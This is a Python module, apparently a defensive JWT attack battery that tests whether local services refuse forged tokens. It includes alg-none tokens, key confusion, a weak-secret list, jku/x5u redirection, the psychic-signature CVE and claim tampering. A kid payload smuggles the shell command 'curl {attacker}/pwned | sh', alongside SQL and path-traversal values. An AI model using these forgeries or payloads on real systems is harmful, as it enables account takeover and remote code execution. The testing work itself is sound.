"""JWT attacks (RFC 8725; the jwt_tool and PortSwigger catalogues) against the services.

Every attack starts from the credential the MCP server really sends for "alice reads her
expenses" under the pattern, changes one thing, and presents the result the way the
pattern's services expect (for pattern 08 with a fresh, valid DPoP proof by the MCP
server's key, so the token is the only thing under test). ALLOW = the service answered 2xx.
"""

from __future__ import annotations

import asyncio
import hashlib
import hmac
import json
import uuid
from collections.abc import Callable
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from runtime.battery.core import (
    Arena,
    Attack,
    Credential,
    Outcome,
    b64json,
    b64url,
    outcome_of,
    split_token,
)

FAMILY = "JWT"
ALL = frozenset({"p05", "p06", "p07", "p08", "p09", "p10"})


# -- token builders ------------------------------------------------------------------

def unsigned(header: dict[str, Any], claims: dict[str, Any], signature: str = "") -> str:
    return f"{b64json(header)}.{b64json(claims)}.{signature}"


def hmac_token(header: dict[str, Any], claims: dict[str, Any], secret: bytes,
               alg: str = "HS256") -> str:
    """HMAC-signed by hand: pyjwt (rightly) refuses PEM/JWK public keys as HMAC secrets."""
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    signing_input = f"{b64json({**header, 'alg': alg})}.{b64json(claims)}"
    signature = hmac.new(secret, signing_input.encode(), digest).digest()
    return f"{signing_input}.{b64url(signature)}"


def rs_token(claims: dict[str, Any], key: Any, header: dict[str, Any]) -> str:
    return jwt.encode(claims, key, algorithm="RS256", headers=header)


async def _legit(a: Arena, user: str = "alice") -> tuple[Credential, dict[str, Any],
                                                         dict[str, Any], str]:
    cred = await a.credential(user)
    header, claims, sig = split_token(cred.token)
    return cred, header, claims, sig


# -- controls: the harness itself must not deny everything -----------------------------

async def control_legit(a: Arena) -> Outcome:
    cred = await a.credential()
    return outcome_of(await a.call("GET", "records", "/expenses", cred.headers))


async def control_oracle(a: Arena) -> Outcome:
    cred, _, claims, _ = await _legit(a)
    return await a.try_token(cred, a.idp_sign(claims))


# -- signature and algorithm ------------------------------------------------------------

def alg_none(variant: str) -> Callable[[Arena], Any]:
    async def run(a: Arena) -> Outcome:
        cred, header, claims, _ = await _legit(a)
        return await a.try_token(cred, unsigned({**header, "alg": variant}, claims))
    return run


async def stripped_signature(a: Arena) -> Outcome:
    cred, header, claims, _ = await _legit(a)
    return await a.try_token(cred, unsigned(header, claims))


async def tampered_claims(a: Arena) -> Outcome:
    """dave's token, claims edited to alice/admin, dave's signature kept."""
    cred, header, claims, sig = await _legit(a, "dave")
    alice = await a.credential("alice")
    forged = {**claims, "preferred_username": "alice", "role": "admin",
              "sub": split_token(alice.token)[1]["sub"]}
    return await a.try_token(cred, f"{b64json(header)}.{b64json(forged)}.{sig}")


def _idp_public_forms(jwk_dict: dict[str, Any]) -> dict[str, bytes]:
    public = jwt.PyJWK(jwk_dict).key
    assert isinstance(public, rsa.RSAPublicKey)
    spki = public.public_bytes(serialization.Encoding.PEM,
                               serialization.PublicFormat.SubjectPublicKeyInfo)
    return {
        "pem": spki,
        "pem-no-newline": spki.rstrip(b"\n"),
        "pkcs1-pem": public.public_bytes(serialization.Encoding.PEM,
                                         serialization.PublicFormat.PKCS1),
        "der": public.public_bytes(serialization.Encoding.DER,
                                   serialization.PublicFormat.SubjectPublicKeyInfo),
        "jwk": json.dumps(jwk_dict).encode(),
    }


def key_confusion(form: str) -> Callable[[Arena], Any]:
    """RS256 -> HS256: HMAC over the token with the IdP's *public* key as the secret."""
    async def run(a: Arena) -> Outcome:
        cred, header, claims, _ = await _legit(a)
        secret = _idp_public_forms(await a.idp_public_jwk())[form]
        return await a.try_token(cred, hmac_token(header, claims, secret))
    return run


WEAK_SECRETS = (b"", b"secret", b"password", b"changeme", b"key", b"jwt", b"agentauth",
                b"mcp-server-secret", b"agent-secret", b"your-256-bit-secret")


async def weak_hmac(a: Arena) -> Outcome:
    cred, header, claims, _ = await _legit(a)
    last = Outcome(False, None, "no secret tried")
    for secret in WEAK_SECRETS:
        for alg in ("HS256", "HS512"):
            last = await a.try_token(cred, hmac_token(header, claims, secret, alg))
            if last.allowed:
                return Outcome(True, last.status, f"accepted {alg} with secret {secret!r}")
    return Outcome(False, last.status, f"{len(WEAK_SECRETS) * 2} weak secrets refused: "
                   f"{last.detail}")


def kid_injection(kid: str) -> Callable[[Arena], Any]:
    """A hostile kid on an RS256 token signed by the attacker (the kid path is exercised;
    HS256 variants of the classic payloads are refused earlier by the alg pin)."""
    async def run(a: Arena) -> Outcome:
        cred, header, claims, _ = await _legit(a)
        hits = len(a.kit.server.hits)
        value = kid.replace("{attacker}", a.kit.server.base_url)
        token = rs_token(claims, a.kit.rsa_key, {**header, "kid": value})
        out = await a.try_token(cred, token)
        if len(a.kit.server.hits) > hits:
            return Outcome(True, out.status, "the verifier contacted the attacker's server")
        hmac_variant = await a.try_token(cred, hmac_token({**header, "kid": value}, claims, b""))
        if hmac_variant.allowed:
            return hmac_variant
        return out
    return run


def _jwks_fetches(a: Arena) -> int:
    return sum(int(c.jwks.fetches) for c in a.runner.service_contexts.values())


def _jwks_hops(a: Arena) -> int:
    return sum(1 for h in a.runner.tap.hops if h.url.endswith("/protocol/openid-connect/certs"))


async def unknown_kid_flood(a: Arena) -> Outcome:
    """20 concurrent tokens with made-up kids: none verifies, and the service fetches the
    JWKS at most once (rate-limited refresh), counted both in the cache and on the wire."""
    cred, header, claims, _ = await _legit(a)
    a.runner.clock.advance(11)   # past the refresh rate limit: one refresh is now allowed
    before, hops_before = _jwks_fetches(a), _jwks_hops(a)
    tokens = [rs_token(claims, a.kit.rsa_key, {**header, "kid": uuid.uuid4().hex})
              for _ in range(20)]
    outs = await asyncio.gather(*(a.try_token(cred, t) for t in tokens))
    fetched, on_wire = _jwks_fetches(a) - before, _jwks_hops(a) - hops_before
    if any(o.allowed for o in outs):
        return Outcome(True, 200, "a token with an unknown kid was accepted")
    if fetched > 1 or on_wire > 1:
        return Outcome(True, outs[0].status, f"JWKS amplification: {fetched} refreshes, "
                       f"{on_wire} JWKS requests on the wire for 20 unknown kids")
    return Outcome(False, outs[0].status, f"{outs[0].detail}; JWKS refreshes {fetched}, "
                   f"JWKS requests on the wire {on_wire}")


def remote_key_header(name: str) -> Callable[[Arena], Any]:
    """jku / x5u pointing at the attacker's server, token signed with the attacker's key."""
    async def run(a: Arena) -> Outcome:
        cred, header, claims, _ = await _legit(a)
        hits = len(a.kit.server.hits)
        path = "/jwks.json" if name == "jku" else "/cert.pem"
        for kid in (a.kit.server.kid, header["kid"]):
            token = rs_token(claims, a.kit.rsa_key,
                             {**header, "kid": kid, name: a.kit.server.base_url + path})
            out = await a.try_token(cred, token)
            if out.allowed:
                return out
        if len(a.kit.server.hits) > hits:
            return Outcome(True, out.status, f"the verifier fetched {name} from the attacker")
        return Outcome(False, out.status, f"{out.detail}; attacker server hits: 0")
    return run


async def embedded_jwk(a: Arena) -> Outcome:
    from stack.jose import public_jwk

    cred, header, claims, _ = await _legit(a)
    jwk = public_jwk(a.kit.rsa_key, kid=header["kid"])
    return await a.try_token(cred, rs_token(claims, a.kit.rsa_key, {**header, "jwk": jwk}))


async def embedded_x5c(a: Arena) -> Outcome:
    import base64

    cred, header, claims, _ = await _legit(a)
    der = a.kit.server.cert.public_bytes(serialization.Encoding.DER)
    x5c = [base64.b64encode(der).decode()]
    return await a.try_token(cred, rs_token(claims, a.kit.rsa_key, {**header, "x5c": x5c}))


async def psychic_signature(a: Arena) -> Outcome:
    """CVE-2022-21449: ES256 with r = s = 0 (raw and DER forms)."""
    cred, header, claims, _ = await _legit(a)
    raw = unsigned({**header, "alg": "ES256"}, claims, b64url(bytes(64)))
    out = await a.try_token(cred, raw)
    if out.allowed:
        return out
    der = unsigned({**header, "alg": "ES256"}, claims, b64url(bytes.fromhex("3006020100020100")))
    return await a.try_token(cred, der)


async def other_key_same_kid(a: Arena) -> Outcome:
    cred, header, claims, _ = await _legit(a)
    return await a.try_token(cred, rs_token(claims, a.kit.rsa_key, header))


async def crit_header(a: Arena) -> Outcome:
    cred, _, claims, _ = await _legit(a)
    return await a.try_token(cred, a.idp_sign(claims, {"crit": ["exp"]}))


# -- claims (oracle: a valid IdP signature over edited claims) ----------------------------

def edited(change: Callable[[dict[str, Any], Arena], dict[str, Any]]) -> Callable[[Arena], Any]:
    async def run(a: Arena) -> Outcome:
        cred, _, claims, _ = await _legit(a)
        return await a.try_token(cred, a.idp_sign(change(dict(claims), a)))
    return run


def _set(**values: Any) -> Callable[[dict[str, Any], Arena], dict[str, Any]]:
    return lambda c, a: {**c, **values}


def _times(exp: float, iat: float, nbf: float | None = None
           ) -> Callable[[dict[str, Any], Arena], dict[str, Any]]:
    def change(c: dict[str, Any], a: Arena) -> dict[str, Any]:
        now = int(a.now())
        out = {**c, "exp": now + exp, "iat": now + iat}
        if nbf is not None:
            out["nbf"] = now + nbf
        return out
    return change


def _issuer(transform: Callable[[str], str]) -> Callable[[dict[str, Any], Arena], dict[str, Any]]:
    return lambda c, a: {**c, "iss": transform(str(c["iss"]))}


def _without(claim: str) -> Callable[[dict[str, Any], Arena], dict[str, Any]]:
    return lambda c, a: {k: v for k, v in c.items() if k != claim}


async def replay_after_expiry(a: Arena) -> Outcome:
    """The real credential, presented one hour later (service clock advanced)."""
    cred = await a.credential()
    a.runner.clock.advance(3600)
    return await a.try_token(cred, cred.token)


async def id_token(a: Arena) -> Outcome:
    cred = await a.credential()
    body = await a.login_response("alice", scope="openid")
    return await a.try_token(cred, body["id_token"])


async def id_token_typed(a: Arena) -> Outcome:
    """The service's own audience, but typ ID: only the explicit type check can refuse it."""
    cred, _, claims, _ = await _legit(a)
    return await a.try_token(cred, a.idp_sign({**claims, "typ": "ID"}))


async def refresh_token(a: Arena) -> Outcome:
    cred = await a.credential()
    body = await a.login_response("alice")
    return await a.try_token(cred, body["refresh_token"])


async def dpop_proof_as_token(a: Arena) -> Outcome:
    from stack.jose import create_proof

    cred = await a.credential()
    proof = create_proof(a.kit.ec_key, "GET", a.url("records", "/expenses"), iat=a.now())
    return await a.try_token(cred, proof)


async def oversized_token(a: Arena) -> Outcome:
    """A 20 kB token must be refused for its size, before any decoding or key lookup."""
    cred, header, claims, _ = await _legit(a)
    token = rs_token({**claims, "pad": "A" * 20_000}, a.kit.rsa_key, header)
    out = await a.try_token(cred, token)
    if out.allowed or (out.status == 401 and "too large" not in out.detail):
        return Outcome(True, out.status, f"not refused for size: {out.detail}")
    return out


async def oversized_header(a: Arena) -> Outcome:
    cred = await a.credential()
    headers = {**cred.headers, "Authorization": cred.headers["Authorization"] + "A" * 70_000}
    return outcome_of(await a.call("GET", "records", "/expenses", headers))


async def duplicate_authorization(a: Arena) -> Outcome:
    cred = await a.credential()
    other = await a.credential("dave")
    headers = [(k, v) for k, v in cred.headers.items() if k.lower() != "authorization"]
    headers += [("Authorization", other.headers["Authorization"]),
                ("Authorization", cred.headers["Authorization"])]
    return outcome_of(await a.call("GET", "records", "/expenses", headers))


async def garbage_token(a: Arena) -> Outcome:
    cred = await a.credential()
    return await a.try_token(cred, "not.a.jwt")


async def no_credential(a: Arena) -> Outcome:
    return outcome_of(await a.call("GET", "records", "/expenses", {}))


def _attack(id_: str, name: str, run: Callable[[Arena], Any], *, oracle: bool = False,
            ref: str = "RFC 8725", unprotected: frozenset[str] = frozenset()) -> Attack:
    return Attack(f"jwt.{id_}", FAMILY, name, run, oracle=oracle, ref=ref,
                  unprotected=unprotected)


ATTACKS: tuple[Attack, ...] = (
    Attack("control.legit", "control", "legitimate credential as the MCP server sends it",
           control_legit, unprotected=ALL),
    Attack("control.oracle", "control", "IdP-signed copy of the legitimate claims (oracle check)",
           control_oracle, unprotected=ALL, oracle=True),
    *(_attack(f"alg-none.{v}", f"alg {v!r}, no signature", alg_none(v), ref="RFC 8725 3.1")
      for v in ("none", "None", "NONE", "nOnE")),
    _attack("stripped-signature", "RS256 header, signature stripped", stripped_signature),
    _attack("tampered-claims", "dave's token edited to alice/admin, signature kept",
            tampered_claims),
    *(_attack(f"hs256-confusion.{f}", f"RS256->HS256 with the IdP public key as {f}",
              key_confusion(f), ref="RFC 8725 2.1, CVE-2016-10555")
      for f in ("pem", "pem-no-newline", "pkcs1-pem", "der", "jwk")),
    _attack("weak-hmac", "HS256/HS512 with common weak secrets", weak_hmac, ref="RFC 8725 3.5"),
    _attack("kid.path-traversal", "kid ../../../../dev/null", kid_injection(
        "../../../../../../dev/null")),
    _attack("kid.sql", "kid ' UNION SELECT 'key' --", kid_injection(
        "x' UNION SELECT 'attacker-key' -- ")),
    _attack("kid.shell", "kid with shell metacharacters and a URL", kid_injection(
        "key.pem; curl {attacker}/pwned | sh #$(id)")),
    _attack("unknown-kid-flood", "20 unknown kids at once (JWKS refresh at most once)",
            unknown_kid_flood),
    _attack("jku", "jku header -> attacker JWKS (no request may reach it)",
            remote_key_header("jku"), ref="RFC 8725 3.10"),
    _attack("x5u", "x5u header -> attacker certificate (no request may reach it)",
            remote_key_header("x5u"), ref="RFC 8725 3.10"),
    _attack("embedded-jwk", "attacker's key embedded as jwk header", embedded_jwk,
            ref="CVE-2018-0114"),
    _attack("embedded-x5c", "attacker's self-signed cert as x5c header", embedded_x5c),
    _attack("psychic-es256", "ES256 r=s=0 psychic signature (ES256 not allowed)",
            psychic_signature, ref="CVE-2022-21449"),
    _attack("other-key-same-kid", "signed with the attacker's RSA key, IdP's kid",
            other_key_same_kid),
    _attack("crit-header", "crit header the verifier does not understand", crit_header,
            oracle=True, ref="RFC 7515 4.1.11"),
    _attack("expired", "expired an hour ago", edited(_times(-3600, -3900)), oracle=True),
    _attack("replay-after-expiry", "real token replayed one hour later", replay_after_expiry),
    _attack("nbf-future", "nbf ten minutes ahead", edited(_times(900, 0, 600)), oracle=True),
    _attack("iat-future", "iat ten minutes ahead", edited(_times(900, 600)), oracle=True),
    _attack("issuer.foreign", "foreign issuer", edited(_issuer(
        lambda i: "https://idp.attacker.example/realms/agentauth")), oracle=True),
    _attack("issuer.trailing-slash", "look-alike issuer: trailing slash",
            edited(_issuer(lambda i: i + "/")), oracle=True),
    _attack("issuer.localhost", "look-alike issuer: localhost for 127.0.0.1",
            edited(_issuer(lambda i: i.replace("127.0.0.1", "localhost"))), oracle=True),
    _attack("issuer.realm-case", "look-alike issuer: realm AgentAuth",
            edited(_issuer(lambda i: i.replace("agentauth", "AgentAuth"))), oracle=True),
    _attack("issuer.https", "look-alike issuer: https scheme",
            edited(_issuer(lambda i: i.replace("http://", "https://"))), oracle=True),
    _attack("aud.other-service", "audience directory-service at records",
            edited(_set(aud="directory-service")), oracle=True),
    _attack("aud.look-alike", "audience records-service-evil",
            edited(_set(aud=["records-service-evil", "mcp-server"])), oracle=True),
    _attack("aud.substring", "audience 'records' (substring of the real one)",
            edited(_set(aud="records")), oracle=True),
    *(_attack(f"missing.{c}", f"required claim {c} missing", edited(_without(c)), oracle=True)
      for c in ("iss", "sub", "aud", "exp", "iat", "azp", "preferred_username", "typ")),
    _attack("id-token", "the user's ID token as an access token", id_token),
    _attack("id-token-typed", "typ ID with the service's audience (typ check only)",
            id_token_typed, oracle=True, ref="RFC 8725 3.11"),
    _attack("refresh-token", "the user's refresh token as an access token", refresh_token),
    _attack("dpop-proof", "a DPoP proof JWT as an access token", dpop_proof_as_token),
    _attack("oversized-token", "20 kB token (refused for size before decoding)",
            oversized_token),
    _attack("oversized-header", "70 kB Authorization header", oversized_header),
    _attack("duplicate-authorization", "two Authorization headers (dave's, then alice's)",
            duplicate_authorization),
    _attack("garbage", "not a JWT at all", garbage_token),
    _attack("no-credential", "no credential (A1)", no_credential),
)
